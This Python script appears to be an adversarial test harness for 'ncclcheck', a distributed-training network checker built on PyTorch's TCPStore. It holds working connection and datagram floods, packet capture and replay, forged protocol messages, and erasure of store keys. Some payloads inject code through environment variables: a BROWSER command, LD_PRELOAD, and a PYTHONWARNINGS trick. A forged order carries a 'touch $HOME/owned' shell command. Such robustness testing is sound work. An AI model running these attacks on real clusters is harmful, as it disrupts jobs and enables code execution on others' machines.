"""A stranger on the network of a run, without its key: `python attacker.py ATTACK HOST THIRD FOLDER NODE...`.

HOST is node 0; THIRD an address that no node of the run has.
Each attack runs until it is killed. FOLDER keeps what was seen on the wire, for the attacks that replay it.
"""

from __future__ import annotations

import hashlib
import json
import os
import random
import resource
import socket
import struct
import sys
import threading
import time
from collections.abc import Callable
from contextlib import suppress
from datetime import timedelta
from pathlib import Path
from typing import Any

PREFIX = "ncclcheck/1//"
TOOL = {"schema_version": "1", "tool_version": "1"}
PORT, THIRD_PORT = 29500, 40099
_EPHEMERAL = range(32768, 61000)
_HEADERS = 14 + 20  # Ethernet and IPv4
_FIN_OR_SYN = 0x03

Attack = Callable[["Field"], None]
ATTACKS: dict[str, Attack] = {}


class Field:
    """Where an attack takes place."""

    def __init__(self, host: str, third: str, folder: Path, nodes: list[str]) -> None:
        self.host, self.third, self.folder, self.nodes = host, third, folder, nodes
        self.port = PORT
        self.random = random.Random(7)  # noqa: S311 (the same attack each time)

    def dial(self, host: str | None = None, port: int | None = None) -> socket.socket:
        """Return a connection to the master port, or elsewhere."""
        return socket.create_connection((host or self.host, port or self.port), 1.0)

    def send(self, data: bytes, *, times: int = 1) -> None:
        """Send the data on a connection of its own."""
        with suppress(OSError), self.dial() as made:
            for _ in range(times):
                made.sendall(data)
            made.settimeout(0.05)
            made.recv(65536)


def attack(function: Attack) -> Attack:
    """Enter the function into the list of attacks."""
    ATTACKS[function.__name__.replace("_", "-")] = function
    return function


def again(function: Callable[[], None], *, threads: int = 4, pause_s: float = 0.0) -> None:
    """Do it again and again, in several threads."""

    def work() -> None:
        while True:
            with suppress(Exception):
                function()
            time.sleep(pause_s)

    for _ in range(threads - 1):
        threading.Thread(target=work, daemon=True).start()
    work()


# --- bytes at the master port ---


@attack
def garbage(field: Field) -> None:
    """Send random bytes."""
    again(lambda: field.send(field.random.randbytes(1000)))


@attack
def http(field: Field) -> None:
    """Send requests of a browser."""
    again(lambda: field.send(b"GET / HTTP/1.1\r\nHost: x\r\n\r\n"))


@attack
def tls(field: Field) -> None:
    """Begin TLS handshakes."""
    again(lambda: field.send(bytes.fromhex("16030102000100") + os.urandom(500)))


@attack
def zeros(field: Field) -> None:
    """Send a flood of zero bytes on each connection."""
    again(lambda: field.send(bytes(1 << 20), times=1000))


@attack
def connects(field: Field) -> None:
    """Open connections and close them at once."""
    again(lambda: field.dial().close(), threads=8)


@attack
def ten_thousand_connections(field: Field) -> None:
    """Hold 10,000 connections that say nothing; open them again when they are closed."""
    hold(field, 10_000, b"")


@attack
def slow_writers(field: Field) -> None:
    """Hold hundreds of connections that send a byte at a time."""
    hold(field, 400, b"{")


def hold(field: Field, most: int, data: bytes) -> None:
    """Keep so many connections open."""
    _, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (min(hard, most + 1000), hard))
    made: list[socket.socket] = []
    while True:
        with suppress(OSError):
            while len(made) < most:
                made.append(field.dial())
        for number in range(len(made) - 1, -1, -1):
            try:
                made[number].setblocking(False)
                if data:
                    made[number].send(data)
                if made[number].recv(4096) == b"":
                    raise ConnectionResetError
            except BlockingIOError:
                continue
            except OSError:
                made.pop(number).close()
        time.sleep(0.2)


@attack
def slow_readers(field: Field) -> None:
    """Send requests of torch's protocol, and never read the answers."""
    ping = struct.pack("<BI", 0, 0x3C85F7CE) + struct.pack("<BI", 9, 1) * 20_000
    kept: list[socket.socket] = []

    def once() -> None:
        made = field.dial()
        kept.append(made)
        made.sendall(ping)

    again(once, pause_s=0.05)


@attack
def deep_json(field: Field) -> None:
    """Send lines of brackets, nested deeply."""
    again(lambda: field.send(b'{"protocol":' + b"[" * 200_000 + b"\n"))


@attack
def endless_line(field: Field) -> None:
    """Send JSON strings that do not end."""
    again(lambda: field.send(b'{"protocol":"' + b"x" * (1 << 20), times=200))


@attack
def huge_frames(field: Field) -> None:
    """Announce gigabytes in torch's protocol."""
    validate = struct.pack("<BI", 0, 0x3C85F7CE)
    again(lambda: field.send(validate + struct.pack("<BQ", 1, 1 << 40) + b"x" * 1000))


@attack
def many_parts(field: Field) -> None:
    """Begin torch's protocol on many connections that then stay."""
    validate = struct.pack("<BI", 0, 0x3C85F7CE)
    hold(field, 500, validate)


# --- datagrams ---


def datagrams(field: Field, make: Callable[[], bytes], pause_s: float = 0.0005) -> None:
    """Send what `make` gives to the number of the master port over UDP."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sender:
        while True:
            with suppress(OSError):
                sender.sendto(make(), (field.host, field.port))
            time.sleep(pause_s)


@attack
def datagram_garbage(field: Field) -> None:
    """Send random datagrams."""
    datagrams(field, lambda: field.random.randbytes(field.random.randrange(1, 1400)))


@attack
def datagram_huge(field: Field) -> None:
    """Send the largest datagrams."""
    datagrams(field, lambda: bytes(65_000), 0.002)


def knock(rank: int, host: str, outcome: str) -> bytes:
    """Return a datagram in which a node says that it cannot join."""
    absent = {"missing": "absent"}
    way = {
        "name": "node1", "port": 29500, "addresses": absent, "is_local": False, "source_address": absent,
        "interface": absent, "outcome": outcome,
    }  # fmt: skip
    message = {"protocol": "ncclcheck-knock-1", "job_id": "", "final": True}
    return json.dumps({**message, "knock": {"host": host, "node_rank": rank, "master": way}}).encode()


@attack
def forged_knocks(field: Field) -> None:
    """Say in the name of nodes 1 and 2 that they cannot join."""
    datagrams(field, lambda: knock(field.random.randrange(1, 3), "node2", "filtered"))


@attack
def many_knocks(field: Field) -> None:
    """Say in the name of thousands of nodes that they cannot join."""
    datagrams(field, lambda: knock(field.random.randrange(100_000), f"x{time.time_ns()}", "refused"))


# --- ncclcheck's own protocol, without the key ---


def introduce(field: Field, **said: Any) -> None:
    """Say hello to a store that asks for a key."""
    with suppress(OSError), field.dial() as made:
        made.settimeout(1.0)
        made.recv(4096)
        line = {
            "protocol": "ncclcheck-store-1",
            "challenge": "0" * 32,
            "host": "node2",
            "node_rank": 1,
            "proof": "",
        }
        made.sendall(json.dumps({**line, **said}).encode() + b"\n")
        made.recv(4096)


@attack
def introduced_without_key(field: Field) -> None:
    """Introduce a process that calls itself node2 and has no key."""
    again(lambda: introduce(field))


@attack
def introduced_with_a_guess(field: Field) -> None:
    """Do the same with a proof that is made up."""
    again(lambda: introduce(field, proof=field.random.randbytes(32).hex()))


@attack
def introduced_with_odd_values(field: Field) -> None:
    """Introduce names with control characters and ranks out of range."""
    again(lambda: introduce(field, host="\x1b[2J::error::" + "x" * 2000, node_rank=-(10**9)))


@attack
def greetings_to_all_ports(field: Field) -> None:
    """Send forged greetings to every port of the nodes that listens."""

    def once() -> None:
        for port in _EPHEMERAL:
            for node in field.nodes:
                with suppress(OSError), socket.create_connection((node, port), 0.2) as made:
                    made.sendall(
                        json.dumps({"nonce": "0" * 32, "ticket": 2, "segment_bytes": 1}).encode() + b"\n"
                    )

    again(once, threads=1)


# --- what was seen on the wire, once more ---


def captured(field: Field) -> None:
    """Keep what others send to the master port, by connection and by datagram, in files."""
    wire = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x0003))
    streams: dict[tuple[bytes, int], bytearray] = {}
    seen: set[bytes] = set()
    while True:
        frame = wire.recv(65536)
        if frame[12:14] != b"\x08\x00" or len(frame) < _HEADERS + 8 or frame[26:30] not in _members(field):
            continue
        segment, protocol = frame[_HEADERS:], frame[23]
        source, target = struct.unpack("!HH", segment[:4])
        if target != field.port:
            continue
        data = segment[8:] if protocol == socket.IPPROTO_UDP else segment[(segment[12] >> 4) * 4 :]
        if not data or frame in seen:
            continue
        seen.add(frame)
        place = frame[26:30], source
        if protocol == socket.IPPROTO_UDP:
            (field.folder / f"{len(seen)}.udp").write_bytes(data)
        elif protocol == socket.IPPROTO_TCP and not segment[13] & _FIN_OR_SYN:
            stream = streams.setdefault(place, bytearray())
            if len(stream) < 1 << 20:
                stream += data
                (field.folder / f"{place[0].hex()}-{source}.tcp").write_bytes(stream)


def _members(field: Field) -> set[bytes]:
    return {socket.inet_aton(node) for node in field.nodes}


def replay(field: Field) -> None:
    """Send again what the files hold."""
    for file in sorted(field.folder.glob("*.tcp")):
        with suppress(OSError), field.dial() as made:
            made.settimeout(0.2)
            made.sendall(file.read_bytes())
            while made.recv(65536):
                pass
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sender:
        for file in sorted(field.folder.glob("*.udp")):
            with suppress(OSError):
                sender.sendto(file.read_bytes(), (field.host, field.port))


@attack
def replay_of_this_run(field: Field) -> None:
    """Send again what members sent in this run."""
    threading.Thread(target=captured, args=(field,), daemon=True).start()
    again(lambda: replay(field), threads=2, pause_s=0.05)


@attack
def replay_of_another_run(field: Field) -> None:
    """Send again what members sent in the run before."""
    again(lambda: replay(field), threads=2, pause_s=0.05)


# --- torch's store ---


def store_of(field: Field) -> Any:
    """Return a client of the store at the master port, as soon as there is one."""
    from torch.distributed import TCPStore

    while True:
        with suppress(Exception):
            field.dial().close()
            return TCPStore(
                field.host, field.port, is_master=False, wait_for_workers=False, timeout=timedelta(seconds=2)
            )
        time.sleep(0.02)


def in_store(field: Field, write: Callable[[Any], None], pause_s: float = 0.01) -> None:
    """Write into the store again and again, once node 0 is there."""
    store = store_of(field)
    while True:
        try:
            write(store)
        except Exception:  # the store is gone, or this is not torch's
            store = store_of(field)
        time.sleep(pause_s)


def put(store: Any, key: str, document: Any) -> None:
    """Write a document as ncclcheck does."""
    data = document if isinstance(document, bytes) else json.dumps(document).encode()
    store.set(f"{PREFIX}{key}/0", data)
    store.set(PREFIX + key, "1")


def hello(host: str, rank: int) -> dict[str, Any]:
    """Return a hello of a node that is not one."""
    launch = {
        "source": "flags", "rank": rank, "world_size": 3, "local_rank": 0, "local_world_size": 1, "node_rank": rank,
        "nnodes": 3, "master_addr": "node1", "master_port": 29500,
    }  # fmt: skip
    return {**TOOL, "host": host, "launch": launch}


def _documents(name: str, documents: dict[str, Any]) -> None:
    def run(field: Field) -> None:
        in_store(
            field, lambda store: [put(store, key, document) for key, document in documents.items()] and None
        )

    ATTACKS[name] = run


def _calls(name: str, call: Callable[[Any], Any]) -> None:
    def run(field: Field) -> None:
        in_store(field, lambda store: call(store) and None)

    ATTACKS[name] = run


def _order(**order: Any) -> dict[str, Any]:
    return {**TOOL, "order": order}


_STEPS = [f"step/{number}" for number in range(12)]
_PLAN = {
    "backend": "gloo", "ops": ["all_reduce"], "sizes_bytes": [1024], "dtype": "float32", "warmup": 1, "iters": 1,
    "budget_s": 1.0, "verify": False,
}  # fmt: skip
_EVIL = {
    "PYTHONWARNINGS": "all:0:antigravity.x:0:0",
    "BROWSER": "sh -c 'touch $HOME/owned' %s",
    "LD_PRELOAD": "/x.so",
}
_KEYS = [
    "serving", "tickets", "verdict-port", "report", "saved",
    *(f"{kind}/{ticket}" for kind in ("hello", "facts", "announced", "bye") for ticket in range(1, 5)),
    *_STEPS, *(f"answer/{number}/{ticket}" for number in range(8) for ticket in range(1, 5)),
]  # fmt: skip


@attack
def forged_reach_order(field: Field) -> None:
    """Order all nodes to call a third address."""
    third = {"interface": "eth0", "address": field.third, "port": THIRD_PORT}
    peers = [{"ticket": ticket, "host": f"node{ticket}", "targets": [third]} for ticket in (1, 2, 3)]
    order = _order(type="reach", peers=peers, targets_of={"1": [2], "2": [3], "3": [1]}, deadline_s=10.0)
    in_store(field, lambda store: [put(store, key, order) for key in _STEPS[:3]] and None)


_documents("forged-hello-of-another", {f"hello/{ticket}": hello("evil", ticket - 1) for ticket in (2, 3)})
_documents("forged-hello-of-node-0", {"hello/1": hello("node1", 0)})
_documents("hello-of-an-older-version", {"hello/2": {**hello("node2", 1), "schema_version": "0"}})
_documents("garbage-as-hello", {"hello/2": b"\x80\x04K\x01."})
_documents("garbage-as-facts", {"facts/2": b"\x80\x04K\x01.", "facts/3": b"[" * 100_000})
_documents("empty-facts", {f"facts/{ticket}": {**TOOL, "facts": {}, "targets": []} for ticket in (2, 3)})
_ANSWERS = [f"answer/{number}/{ticket}" for number in range(6) for ticket in (2, 3)]
_documents("forged-answers", {key: {**TOOL, "probes": []} for key in _ANSWERS})
_documents("garbage-as-answers", dict.fromkeys(_ANSWERS, b"{" * 1000))
_documents(
    "forged-announcement", {f"announced/{ticket}": {**TOOL, "targets": [], "names": []} for ticket in (2, 3)}
)
_documents(
    "forged-verdict", dict.fromkeys(_STEPS, _order(type="finish", exit_code=0, reasons=["all checks passed"]))
)
_documents(
    "forged-failure", dict.fromkeys(_STEPS, _order(type="finish", exit_code=1, reasons=["node2 is broken"]))
)
_documents("forged-report", {"report": {"verdict": {"exit_code": 0}}, "saved": {}})
_documents(
    "forged-bench-order",
    dict.fromkeys(
        _STEPS[:4],
        _order(
            type="bench", plan=_PLAN, world_size=3, hosts=["node1", "node2", "node3"],
            first_rank={"1": 0, "2": 1, "3": 2}, count=dict.fromkeys("123", 1),
            environments=dict.fromkeys("123", _EVIL), nonce="ab", deadline_s=20.0,
        ),
    ),
)  # fmt: skip
_documents("unknown-orders", dict.fromkeys(_STEPS, _order(type="shell", command="touch $HOME/owned")))


@attack
def accusing_facts(field: Field) -> None:
    """Write the facts of node2 with another version of Python in them."""

    def write(store: Any) -> None:
        key = f"{PREFIX}facts/2"
        if not store.check([key]):
            return
        data = b"".join(bytes(store.get(f"{key}/{part}")) for part in range(int(store.get(key))))
        put(store, "facts/2", data.replace(b'"python":"3', b'"python":"2'))

    in_store(field, write, 0.002)


@attack
def forged_hello(field: Field) -> None:
    """Draw a ticket and say hello for the place of node2."""
    drawn: list[int] = []

    def write(store: Any) -> None:
        if not drawn:
            drawn.append(int(store.add(f"{PREFIX}tickets", 1)))
        run = hashlib.sha256(bytes(store.get(f"{PREFIX}serving"))).hexdigest()
        put(store, f"hello/{drawn[0]}", {**hello("evil", 1), "run": run})

    in_store(field, write)


_calls("replaced-nonce", lambda store: store.set(PREFIX + "serving", os.urandom(16)))
_calls("replaced-verdict-port", lambda store: store.set(PREFIX + "verdict-port", "22"))
_calls("many-tickets", lambda store: store.add(PREFIX + "tickets", 1000))
_calls("few-tickets", lambda store: store.add(PREFIX + "tickets", -1))
_calls("a-ticket-as-text", lambda store: store.set(PREFIX + "tickets", "x" * 100))
_calls("erased-nonce", lambda store: store.delete_key(PREFIX + "serving"))
_calls("erased-hellos", lambda store: [store.delete_key(f"{PREFIX}hello/{ticket}") for ticket in range(1, 5)])
_calls("erased-facts", lambda store: [store.delete_key(f"{PREFIX}facts/{ticket}") for ticket in range(1, 5)])
_calls("erased-orders", lambda store: [store.delete_key(PREFIX + key) for key in _STEPS])
_calls("erased-keys", lambda store: [store.delete_key(PREFIX + key) for key in _KEYS])
_calls("all-keys-erased", lambda store: [store.delete_key(key) for key in store.list_keys()])
_calls("one-huge-value", lambda store: store.set("x", "y" * (7 << 20)))
_calls("many-huge-values", lambda store: store.set(f"x{time.time_ns()}", "y" * (7 << 20)))
_calls("many-small-keys", lambda store: [store.set(f"x{time.time_ns()}", "y" * 100) for _ in range(1000)])
_calls("queue-without-end", lambda store: store.queue_push("q", "y" * (1 << 20)))


def main() -> None:
    """Run one attack until killed."""
    name, host, third, folder, *nodes = sys.argv[1:]
    with suppress(ImportError):
        import torch.distributed  # noqa: F401 (before the run begins)
    (Path.home() / "attacker").write_text("ready")
    ATTACKS[name](Field(host, third, Path(folder), nodes))


if __name__ == "__main__":
    main()
